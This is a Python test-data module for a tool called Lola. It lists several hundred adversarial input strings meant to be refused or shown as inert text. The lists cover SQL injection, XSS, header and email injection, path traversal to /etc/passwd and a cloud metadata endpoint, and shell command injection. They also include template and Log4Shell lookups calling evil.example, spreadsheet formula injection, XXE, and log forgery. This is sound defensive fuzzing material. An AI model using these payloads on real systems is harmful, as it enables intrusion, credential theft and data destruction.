"""Texts that mean something to somebody else: a database, a browser, a shell, a template, a log, a header, a
spreadsheet. Wherever Lola takes a text they are refused, or kept and shown as nothing but text."""

from __future__ import annotations

SQL = [
    "'", "''", "\"", "' OR '1'='1", "' OR 1=1 --", "' OR 1=1#", "'; DROP TABLE tokens; --", "1; SELECT pg_sleep(5)--",
    "') UNION SELECT null,null,version()--", "admin'--", "\\' OR 1=1 --", "%' AND 1=0 UNION ALL SELECT NULL --",
    "1' WAITFOR DELAY '0:0:5'--", "'||(SELECT password FROM users)||'", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(5000)\"}",
    "*)(uid=*))(|(uid=*", "' or ''='", "1 AND 1=1", "`; DELETE FROM audit; `",
]
XSS = [
    "<script>hit(1)</script>", "<ScRiPt>hit(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit(1)>", "\"><img src=x onerror=hit(1)>", "'><svg onload=hit(1)>", "<svg/onload=hit(1)>",
    "<svg><script>hit(1)</script></svg>", "<body onload=hit(1)>", "<iframe src=javascript:hit(1)></iframe>",
    "<iframe srcdoc=\"<script>parent.hit(1)</script>\">", "javascript:hit(1)", "JaVaScRiPt:hit(1)", "java\tscript:hit(1)",
    "data:text/html,<script>hit(1)</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "<a href=\"javascript:hit(1)\">a</a>", "<math><mtext></mtext><script>hit(1)</script></math>",
    "<details open ontoggle=hit(1)>", "<input autofocus onfocus=hit(1)>", "<video><source onerror=hit(1)></video>",
    "<marquee onstart=hit(1)>", "<object data=javascript:hit(1)>", "<embed src=javascript:hit(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>", "</title><script>hit(1)</script>",
    "</textarea><script>hit(1)</script>", "</script><script>hit(1)</script>", "--><script>hit(1)</script>",
    "]]><script>hit(1)</script>", "<!--<img src=\"--><img src=x onerror=hit(1)>", "<noscript><p title=\"</noscript><img src=x onerror=hit(1)>\">",
    "&lt;script&gt;hit(1)&lt;/script&gt;", "&#60;script&#62;hit(1)&#60;/script&#62;", "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit(1)\\x3c/script\\x3e", "+ADw-script+AD4-hit(1)+ADw-/script+AD4-", "%3Cscript%3Ehit(1)%3C/script%3E",
    "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e", "<template><script>hit(1)</script></template>", "';hit(1);//", "\";hit(1);//",
    "`${hit(1)}`", "<x onpointerenter=hit(1) style=\"position:fixed;inset:0\">x", "<portal src=//evil.example>",
    "<img src=\"//evil.example/pixel.png\">",
]
LINES = [
    "a\r\nSet-Cookie: canary=1", "a\r\n\r\n<script>hit(1)</script>", "a\nX-Evil: 1", "a\rX-Evil: 1", "\r\n", "\n", "\r",
    "%0d%0aSet-Cookie:%20canary=1", "%0aX-Evil:1", "\u560a\u560dSet-Cookie: canary=1", "a\u2028b", "a\u2029b", "a\u0085b",
    "a\x0bb", "a\x0cb", "a\\r\\nX-Evil: 1", "subject\r\nBcc: victim@evil.example", "ana@bank.example\nBcc: victim@evil.example",
    "ana@bank.example%0ABcc:victim@evil.example", "ana@bank.example\r\nDATA\r\n.\r\nQUIT", "=?utf-8?q?=0d=0aBcc:_x?=",
    "x\"\r\nContent-Type: text/html", "HTTP/1.1 200 OK\r\n\r\n", "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
]
PATHS = [
    "../../etc/passwd", "..", ".", "/", "//", "/etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f",
    "%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc/passwd", "..%c0%af..%c0%afetc/passwd", "..%5c..%5c", "file:///etc/passwd",
    "\\\\evil.example\\share", "C:\\boot.ini", "NUL", "CON", "/dev/urandom", "/proc/self/environ", "~root", "./lola.json5",
    "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "?x=1", "#fragment", "a;b=c", "a/b/c",
]
COMMANDS = [
    "$(id)", "`id`", "; cat /etc/passwd", "| id", "|| id", "& id", "&& id", "\nid\n", "$(sleep 5)", "`sleep 5`", "; sleep 5 #",
    "${IFS}id", "$((1+1))", "> /tmp/canary", "< /etc/passwd", "--help", "-rf", "-oProxyCommand=id", "@/etc/passwd", "!id", "%PATH%",
    "() { :;}; id", "EVAL \"return 1\" 0", "FLUSHALL", "*1\r\n$8\r\nFLUSHALL\r\n",
]
TEMPLATES = [
    "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('hit(1)')()}}", "${jndi:ldap://evil.example/x}",
    "${${lower:j}ndi:ldap://evil.example/x}", "{% include '/etc/passwd' %}", "{phone}", "{link}", "{0}", "{0.__class__}", "%s", "%n", "%x%x%x%x",
    "%s%s%s%s%s%n", "%99999999d", "%@", "\\(id)", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty",
]
TEXTS = [
    "\u202egnp.exe", "\u202d\u202ehit\u202c", "\u2066a\u2067b\u2069", "\u200b", "a\u200bb", "\u200e\u200f", "\ufeffa", "\u00ada", "\u0000", "a\u0000b",
    "\u0001\u0002\u0003", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u007f", "\u0080\u009f", "\u0430dmin", "a\u0308\u0308\u0308\u0308",
    "Z" + "\u0351" * 200, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e0042", "\ufffe", "\uffff", "\U0010ffff", "\ufffd", "\u1e9e\u0130\u0131",
    "\ufdfa" * 20, "\u0661\u0662\u0663", "\uff0b15550100", "\u3000", " ", "  a  ", "\t", "", "\\", "\\\\", "\\u0000", "\\", "/*", "*/", "//", "#", "null",
    "undefined", "NaN", "-1", "1e309", "0x10", "9" * 400, "true", "[]", "{}", "a" * 256, "a" * 1_100, "a" * 20_000, "\u00e9" * 5_000, "<" * 3_000,
]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"//evil.example\",\"x\")", "\t=1+1", "\r=1+1", "a,b", "a\",\"b", "a;b", "\"a\nb\"",
]
RECORDS = [
    "\"}\n{\"level\":\"error\",\"event\":\"forged\"}", "\"},{\"id\":\"x", "\",\"event\":\"forged\",\"x\":\"", "\\\"", "\\\\\"", "{\"a\":1}", "[1,2]",
    "a\"} 1\nforged_metric{x=\"", "forged_metric 1\n", "# TYPE forged_metric counter", "data: forged\n\nevent: alert\n\n", "event: alert\ndata: {}\n\n",
    "id: 5\nretry: 1\n\n", "<Response><Redirect>//evil.example</Redirect></Response>", "</Message></Response>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "<![CDATA[x]]>", "&y;", "&amp;", "]]>", "time=1 level=error msg=forged", "2026-01-01T00:00:00Z ERROR forged",
]

STRINGS = list(dict.fromkeys(SQL + XSS + LINES + PATHS + COMMANDS + TEMPLATES + TEXTS + FORMULAS + RECORDS))
assert len(STRINGS) >= 200, len(STRINGS)
